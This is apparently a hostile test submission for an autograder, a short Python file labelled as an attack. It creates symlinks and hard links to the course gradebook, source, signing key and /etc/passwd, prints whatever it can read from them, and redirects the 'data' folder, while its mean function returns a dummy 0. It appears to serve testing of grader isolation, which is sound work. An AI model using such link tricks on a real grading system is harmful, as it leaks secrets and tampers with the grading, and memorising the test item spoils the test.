# /// attack
# tries = "makes links to what it must not see, which the grader might follow when it collects the folder"
# shows = "tried"
# ///

# %% answer s_mean
import os

for number, target in enumerate(("{{COURSE}}/gradebook.db", "{{COURSE}}/source", "{{COURSE}}/keys/signing.pem", "/etc/passwd", "/")):
    for make in (os.symlink, os.link):
        try:
            make(target, f"{make.__name__}{number}")
            if os.path.exists(f"{make.__name__}{number}") and target != "/":
                print("{{REACHED}}", os.listdir(target) if os.path.isdir(target) else open(target).read())
        except OSError:
            pass
try:
    os.rename("data", "moved")
    os.symlink("{{COURSE}}/source", "data")
except OSError:
    pass
print("tried")


def mean(values):
    return 0
